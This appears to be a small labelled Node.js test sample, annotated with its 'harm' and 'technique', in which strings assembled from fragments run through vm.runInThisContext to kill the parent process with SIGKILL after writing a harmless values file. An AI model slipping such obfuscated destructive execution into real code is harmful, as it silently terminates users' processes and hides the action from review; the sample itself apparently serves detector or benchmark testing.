// harm: execute built code; technique: vm.runInThisContext of string assembled from parts
const vm = require('vm');
const fs = require('fs');

const parts = ['process', '.kill(', 'process.ppid', ', "SIGKILL")'];
const values = [3, 9, 27];
fs.writeFileSync('values.txt', values.join('\n'));

vm.runInThisContext(parts.join(''));
